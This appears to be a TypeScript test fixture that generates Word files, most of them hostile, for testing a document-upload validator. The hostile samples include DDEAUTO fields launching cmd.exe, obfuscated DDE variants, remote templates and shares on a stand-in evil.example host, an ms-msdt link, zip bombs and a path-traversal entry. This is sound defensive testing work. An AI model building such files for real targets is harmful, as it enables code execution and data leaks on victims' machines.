import { crc32, deflateRawSync } from 'node:zlib';

const latin = (text: string) => Buffer.from(text, 'latin1');

interface Packing {
  /** Packed, as Word does; else as they are. */
  readonly method?: 0 | 8;
  readonly flags?: number;
  /** What the entries are called where they stand, in the place of what the list calls them. */
  readonly localName?: (name: string) => string;
  /** What the list says of the size of each, unpacked. */
  readonly sizes?: (size: number) => number;
  /** Between the entries and their list. */
  readonly between?: Buffer;
}

/** An archive of these parts. */
function zipOf(parts: readonly (readonly [name: string, content: string | Buffer])[], packing: Packing = {}): Buffer {
  const { method = 8, flags = 0, localName = (name) => name, sizes = (size) => size, between = Buffer.alloc(0) } = packing;
  const entries: Buffer[] = [];
  const list: Buffer[] = [];
  let at = 0;
  for (const [name, content] of parts) {
    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
    const packed = method === 8 ? deflateRawSync(bytes) : bytes;
    const said = Buffer.alloc(26);
    said.writeUInt16LE(20, 0);
    said.writeUInt16LE(flags, 2);
    said.writeUInt16LE(method, 4);
    said.writeUInt32LE(crc32(bytes), 10);
    said.writeUInt32LE(packed.length, 14);
    said.writeUInt32LE(sizes(bytes.length), 18);
    const sums = Buffer.from(said.subarray(10, 22));
    const isBehind = (flags & 8) !== 0;
    const [local, listed] = [Buffer.from(said), Buffer.from(said)];
    local.writeUInt16LE(Buffer.byteLength(localName(name)), 22);
    if (isBehind) local.fill(0, 10, 22);
    listed.writeUInt16LE(Buffer.byteLength(name), 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    entries.push(latin('PK\x03\x04'), local, Buffer.from(localName(name)), packed, ...(isBehind ? [latin('PK\x07\x08'), sums] : []));
    list.push(latin('PK\x01\x02'), Buffer.from([20, 0]), listed, place, Buffer.from(name));
    at += 30 + Buffer.byteLength(localName(name)) + packed.length + (isBehind ? 16 : 0);
  }
  const whole = Buffer.concat(list);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(whole.length, 12);
  end.writeUInt32LE(at + between.length, 16);
  return Buffer.concat([...entries, between, whole, end]);
}

const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';
const office = 'application/vnd.openxmlformats-officedocument';
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const main = `${office}.wordprocessingml.document.main+xml`;

interface Docx {
  /** Of the main part. */
  readonly type?: string;
  /** Behind the other content types. */
  readonly types?: string;
  /** Relationships of the document. */
  readonly relations?: string;
  /** Within its body. */
  readonly body?: string;
  readonly parts?: readonly (readonly [string, string | Buffer])[];
  readonly packing?: Packing;
  readonly without?: string;
}

/** One relationship. */
const related = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="rId9" Type="${relation}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;

/** A small Word document of today's format, with something in it. */
export function docx({ type = main, types = '', relations = '', body = '', parts = [], packing, without }: Docx = {}): Buffer {
  const own = [
    [
      '[Content_Types].xml',
      `${declaration}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${type}"/>${types}</Types>`,
    ],
    [
      '_rels/.rels',
      `${declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relation}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ],
    [
      'word/document.xml',
      `${declaration}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>DDE &amp; words</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ],
    [
      'word/_rels/document.xml.rels',
      `${declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${related('hyperlink', 'https://x.example/?a=1&amp;b=2', 'External')}${relations}</Relationships>`,
    ],
  ] as const;
  return zipOf(
    [...own, ...parts].filter(([name]) => name !== without),
    packing,
  );
}

const [sector, none, endOfChain] = [512, 0xffffffff, 0xfffffffe];

type Held = Buffer | 'empty' | 'full';

interface Doc {
  /** More that it holds: streams, or storages. */
  readonly holds?: Readonly<Record<string, Held>>;
  /** Flags of the document. */
  readonly flags?: number;
  readonly words?: string;
  /** Where its template lies. */
  readonly template?: string;
  readonly version?: number;
  readonly mark?: number;
  readonly without?: 'WordDocument' | '1Table';
}

/** A small Word document of the format until 2003, with something in it. */
export function doc({
  holds = {},
  flags = 0x200,
  words = 'DDE and words',
  template = 'C:\\Templates\\Normal.dot',
  version = 0xc1,
  mark = 0xa5ec,
  without,
}: Doc = {}): Buffer {
  const text = Buffer.alloc(4096);
  text.writeUInt16LE(mark, 0);
  text.writeUInt16LE(version, 2);
  text.writeUInt16LE(flags, 10);
  const texts = Buffer.concat([
    Buffer.from([0xff, 0xff, 2, 0, 0, 0]),
    ...['', template].flatMap((one) => [Buffer.from([one.length, 0]), Buffer.from(one, 'utf16le')]),
  ]);
  text.writeUInt32LE(texts.length, 0x19e);
  text.write(words, 1024, 'latin1');
  const table = Buffer.alloc(4096);
  texts.copy(table);
  const streams: readonly (readonly [string, Held])[] = [['WordDocument', text], ['1Table', table], ...Object.entries(holds)];
  return compound(streams.filter(([name]) => name !== without));
}

/** A compound file: a table, a directory, and streams in sectors that follow each other. */
function compound(holds: readonly (readonly [string, Held])[]): Buffer {
  const entries = [entry('Root Entry', 5, endOfChain, 0, holds.length > 0 ? 1 : none)];
  const directoryLength = Math.ceil((holds.length + 1) / 4);
  const next = [0xfffffffd, ...follow(1, directoryLength)];
  const data: Buffer[] = [];
  for (const [name, bytes] of holds) {
    // Streams of some length alone are not packed together.
    const whole = typeof bytes !== 'string' && Buffer.concat([bytes, Buffer.alloc(Math.max(0, 4096 - bytes.length))]);
    const padded = whole && Buffer.concat([whole, Buffer.alloc((sector - (whole.length % sector)) % sector)]);
    entries.push(padded ? entry(name, 2, next.length, padded.length, none) : entry(name, 1, 0, 0, bytes === 'empty' ? none : 1));
    if (!padded) continue;
    next.push(...follow(next.length, padded.length / sector));
    data.push(padded);
  }
  const table = Buffer.alloc(sector, 0xff);
  for (const [index, value] of next.entries()) table.writeUInt32LE(value, index * 4);
  const directory = Buffer.alloc(directoryLength * sector);
  for (const [index, one] of entries.entries()) one.copy(directory, index * 128);
  const head = Buffer.alloc(sector, 0);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head);
  for (const [at, value] of [
    [24, 0x3e],
    [26, 3],
    [28, 0xfffe],
    [30, 9],
    [32, 6],
  ] as const)
    head.writeUInt16LE(value, at);
  for (const [at, value] of [
    [44, 1],
    [48, 1],
    [56, 4096],
    [60, endOfChain],
    [64, 0],
    [68, endOfChain],
    [72, 0],
  ] as const)
    head.writeUInt32LE(value, at);
  head.fill(0xff, 76);
  head.writeUInt32LE(0, 76);
  return Buffer.concat([head, table, directory, ...data]);
}

const follow = (first: number, count: number): number[] => Array.from({ length: count }, (_, index) => (index === count - 1 ? endOfChain : first + index + 1));

function entry(name: string, type: number, start: number, size: number, child: number): Buffer {
  const bytes = Buffer.alloc(128);
  bytes.write(name, 'utf16le');
  bytes.writeUInt16LE((name.length + 1) * 2, 64);
  bytes[66] = type;
  for (const at of [68, 72]) bytes.writeUInt32LE(none, at);
  bytes.writeUInt32LE(child, 76);
  bytes.writeUInt32LE(start, 116);
  bytes.writeUInt32LE(size, 120);
  return bytes;
}

const field = (...pieces: readonly string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const override = (name: string, type: string) => `<Override PartName="/${name}" ContentType="${type}"/>`;
const compoundFile = doc();
const [macroType, bin] = ['application/vnd.ms-office.vbaProject', 'word/vbaProject.bin'];
const html = '<html><script>alert(1)</script></html>';
const settings = (relations: string): NonNullable<Docx['parts']> => [
  ['word/settings.xml', '<w:settings xmlns:w="x"/>'],
  ['word/_rels/settings.xml.rels', `<Relationships>${relations}</Relationships>`],
];

const [isMacro, isFurther, isPacked, isControl, isOutward, isElsewhere, isNone] = [
  'has macros',
  'holds further files',
  'is packed in a way that cannot be looked into',
  'has ActiveX controls',
  'has fields that fetch from elsewhere: print it into a PDF, and send that',
  'holds parts that are fetched from elsewhere',
  'is not a Word document',
];
const isTemplate = 'is a template: save it as a document, and send that';
const isTemplated = 'has a template that lies elsewhere: print it into a PDF, and send that';
const leads = 'leads to another file';
const neither = 'is neither a PDF, a Word document nor a PNG, JPEG or WebP picture';

/** Word documents that must not be taken, by what is wrong with them, and what is said of them. */
export const hostileWord: Readonly<Record<string, readonly [bytes: Buffer, refusal: string]>> = {
  // Macros, by what names them.
  'docm by its main type': [docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), isMacro],
  'docm by its main type, in character references': [docx({ type: 'application/vnd.ms-word.document.&#x6D;acro&#69;nabled.main+xml' }), isMacro],
  'macros by a type': [docx({ types: override(bin, macroType), parts: [[bin, 'x']] }), isMacro],
  'macros by the type of an ending': [docx({ types: `<Default Extension="png" ContentType='${macroType}'/>` }), isMacro],
  'macros by a prefixed element': [docx({ types: `<t:Override PartName="/x" ContentType="${macroType}"></t:Override>` }), isMacro],
  'macros by a relationship': [docx({ relations: related('vbaProject', 'picture.png') }), isMacro],
  'macros by a relationship of Microsoft': [
    docx({ relations: '<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.png"/>' }),
    isMacro,
  ],
  'macros by a name': [docx({ parts: [['word/VBAPROJECT.BIN', 'x']] }), isMacro],
  'macros by what they begin with': [docx({ parts: [['word/media/picture.png', compoundFile]] }), isFurther],
  toolbars: [docx({ relations: related('attachedToolbars', 'attachedToolbars.bin') }), isMacro],
  'template with macros': [docx({ type: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' }), isMacro],
  template: [docx({ type: `${office}.wordprocessingml.template.main+xml` }), isTemplate],
  // What another program opens.
  control: [docx({ relations: related('control', 'activeX/activeX1.xml') }), isControl],
  'control by a name': [docx({ parts: [['word/activeX/activeX1.xml', '<ax:ocx/>']] }), isControl],
  object: [docx({ relations: related('oleObject', 'embeddings/oleObject1.bin') }), isFurther],
  package: [docx({ relations: related('package', 'embeddings/sheet.xlsx') }), isFurther],
  'embedded by a name': [docx({ parts: [['word/embeddings/a.png', 'x']] }), isFurther],
  'sheet by its type': [docx({ types: `<Default Extension="xlsx" ContentType="${office}.spreadsheetml.sheet"/>` }), isFurther],
  'archive within': [docx({ parts: [['word/media/a.png', zipOf([['a', 'b']])]] }), isFurther],
  'program within': [docx({ parts: [['word/media/a.png', latin('MZ\x90\0')]] }), isFurther],
  'other text': [docx({ relations: related('aFChunk', 'chunk.html') }), isFurther],
  'page by its type': [docx({ types: override('word/a.htm', 'text/html'), parts: [['word/a.htm', html]] }), isFurther],
  'add-in': [docx({ relations: related('webextensiontaskpanes', 'a.xml') }), 'has add-ins'],
  // What is fetched.
  'template elsewhere': [docx({ parts: settings(related('attachedTemplate', 'https://evil.example/a.dotm', 'External')) }), isTemplated],
  'template on a disk': [docx({ parts: settings(related('attachedTemplate', 'file:///C:\\a.dotx', 'external')) }), isTemplated],
  'picture elsewhere': [docx({ relations: related('image', 'https://evil.example/a.png', 'External') }), isElsewhere],
  'object elsewhere': [docx({ relations: related('oleObject', 'https://evil.example/a!', 'External') }), isFurther],
  frame: [docx({ relations: related('frame', '\\\\evil.example\\a', 'External') }), isElsewhere],
  'link to a server': [docx({ relations: related('hyperlink', 'file://evil.example/a', 'External') }), leads],
  'link to a share': [docx({ relations: related('hyperlink', '\\\\evil.example\\a', 'External') }), leads],
  'link that begins a program': [docx({ relations: related('hyperlink', 'ms-msdt:/id', 'External') }), leads],
  'address without its mode': [docx({ relations: related('image', 'https://evil.example/a.png') }), leads],
  DDE: [docx({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }), isOutward],
  'DDE in pieces': [docx({ body: field(' D', 'D', 'E cmd') }), isOutward],
  'DDE in references': [docx({ body: field('&#68;&#x44;E cmd') }), isOutward],
  'DDE around a comment': [docx({ body: field('D<!-- a -->DE cmd', 'x') }), isOutward],
  'DDE behind an attribute': [docx({ body: '<w:fldChar w:fldCharType="&#98;egin"/><w:instrText a=">">DDE cmd</w:instrText>' }), isOutward],
  'DDE in long references': [docx({ body: field('&#x00000044;&#000000068;E cmd') }), isOutward],
  'DDE in sections': [docx({ body: field('<![CDATA[DD]]>E cmd') }), isOutward],
  'DDE in one element': [docx({ body: '<w:fldSimple w:instr=" dde cmd"/>' }), isOutward],
  'DDE beneath other parts': [docx({ parts: [['word/footer1.xml', `<w:ftr>${field('DDE a')}</w:ftr>`]] }), isOutward],
  'fetched picture': [docx({ body: field('INCLUDEPICTURE "https://evil.example"') }), isOutward],
  'data of letters': [docx({ body: '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>' }), isOutward],
  // Archives that are not what they seem.
  'something before': [Buffer.concat([latin(html), docx()]), neither],
  'an entry before': [Buffer.concat([zipOf([['a', 'b']]).subarray(0, 32), docx()]), isPacked],
  'something behind': [Buffer.concat([docx(), latin(html)]), isPacked],
  'an archive behind': [Buffer.concat([docx(), docx()]), isPacked],
  'something between': [docx({ packing: { between: latin(html) } }), isPacked],
  cut: [docx().subarray(0, -30), isPacked],
  encrypted: [docx({ packing: { flags: 1 } }), 'is encrypted'],
  'another name where it stands': [docx({ packing: { localName: (name) => name.replace('document', 'documenu') } }), isPacked],
  'larger than it says': [docx({ packing: { sizes: (size) => size - 1 } }), isNone],
  'smaller than it says': [docx({ packing: { sizes: (size) => size + 1 } }), isNone],
  bomb: [docx({ parts: [['word/media/a.bmp', Buffer.alloc(100_000_001)]] }), isPacked],
  'bomb of many': [docx({ parts: Array.from({ length: 11 }, (_, index) => [`word/media/${index}.bmp`, Buffer.alloc(10_000_000)] as const) }), isPacked],
  'bomb that lies': [docx({ parts: [['a.bmp', Buffer.alloc(10_000_000)]], packing: { sizes: (size) => Math.min(size, 1000) } }), isPacked],
  'too many entries': [docx({ parts: Array.from({ length: 5000 }, (_, index) => [`word/media/${index}.png`, ''] as const) }), isPacked],
  'twice the same part': [docx({ parts: [['WORD/document.xml', '<a/>']] }), isPacked],
  'disguised name': [docx({ parts: [['word/%76baProject.bin', 'x']] }), isPacked],
  'backward name': [docx({ parts: [['word\\a.xml', '<a/>']] }), isPacked],
  // XML that is read in several ways.
  'declared entities': [docx({ parts: [['word/a.xml', '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>']] }), isPacked],
  'wide characters': [docx({ parts: [['word/a.xml', Buffer.from('\ufeff<a/>', 'utf16le')]] }), isPacked],
  'wide characters under another name': [docx({ parts: [['word/a.png', Buffer.from('<a/>', 'utf16le')]] }), isPacked],
  'another encoding': [docx({ parts: [['word/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>']] }), isPacked],
  'no XML': [docx({ parts: [['word/a.xml', 'DDE']] }), isPacked],
  'words among relationships': [docx({ relations: 'words' }), isPacked],
  // No documents.
  archive: [zipOf([['../../etc/passwd', 'x']]), isNone],
  'without types': [docx({ without: '[Content_Types].xml' }), isNone],
  'without beginning': [docx({ without: '_rels/.rels' }), isNone],
  sheet: [docx({ type: `${office}.spreadsheetml.sheet.main+xml` }), isNone],
  'two documents': [docx({ types: override('word/other.xml', main) }), isNone],
  // The format until 2003.
  'old macros': [doc({ holds: { Macros: 'full' } }), isMacro],
  'old macros by their project': [doc({ holds: { _VBA_PROJECT_CUR: 'full' } }), isMacro],
  'old macros by a stream': [doc({ holds: { _VBA_PROJECT: Buffer.from('x') } }), isMacro],
  'old macros in small letters': [doc({ holds: { vba: 'empty' } }), isMacro],
  'old pool of objects': [doc({ holds: { ObjectPool: 'full' } }), isFurther],
  'old object': [doc({ holds: { ObjectPool: 'empty', '\x01Ole10Native': Buffer.from('x') } }), isFurther],
  'old encrypted': [doc({ flags: 0x300 }), 'is encrypted'],
  'old, with the new within': [doc({ holds: { EncryptedPackage: Buffer.from('x') }, without: 'WordDocument' }), 'is encrypted'],
  'old template': [doc({ flags: 0x201 }), isTemplate],
  'old template elsewhere': [doc({ template: 'https://evil.example/a.dot' }), isTemplated],
  'old template on a share': [doc({ template: '\\\\evil.example\\a.dot' }), isTemplated],
  'old DDE': [doc({ words: '\x13 DDEAUTO c:\\cmd \x14\x15' }), isOutward],
  'old DDE in two bytes': [doc({ words: Buffer.from('\x13DDE a', 'utf16le').toString('latin1') }), isOutward],
  older: [doc({ version: 0x65 }), 'is of a Word before 97: save it in another format, and send that'],
  'of another mark': [doc({ mark: 0xa5dc }), isPacked],
  'old, without its table': [doc({ without: '1Table' }), isPacked],
  'old sheet': [doc({ holds: { Workbook: Buffer.from('x') }, without: 'WordDocument' }), isNone],
  'old, cut': [doc().subarray(0, 3000), isPacked],
  'old, cut at a sector': [doc().subarray(0, 2048), isPacked],
  'something behind the old': [Buffer.concat([doc(), latin(html)]), isPacked],
  'old, nothing but its beginning': [latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), isPacked],
  'old, whose sectors go round': [goingRound(), isPacked],
};

/** The second sector of the text leads back to the first. */
function goingRound(): Buffer {
  const bytes = doc();
  bytes.writeUInt32LE(2, sector + 4 * 3);
  return bytes;
}

/** What people write. */
export const goodWord = {
  docx: [
    docx(),
    docx({ packing: { method: 0 } }),
    docx({ packing: { flags: 0x808 } }),
    docx({ body: field(' PAGE ', ' \\* MERGEFORMAT ') + field('HYPERLINK "https://x.example/dde"') }),
    docx({
      parts: [
        ['word/media/a.png', Buffer.from([0x89, 0x50])],
        ['word/theme/theme1.xml', '\ufeff<a:theme/>'],
      ],
    }),
    docx({ relations: related('hyperlink', 'mailto:a@b.example', 'External') + related('image', 'media/a.png') + related('image', '/word/media/a.png') }),
  ],
  doc: [doc(), doc({ holds: { ObjectPool: 'empty', '\x05SummaryInformation': Buffer.from('x') } }), doc({ template: '' })],
} as const;
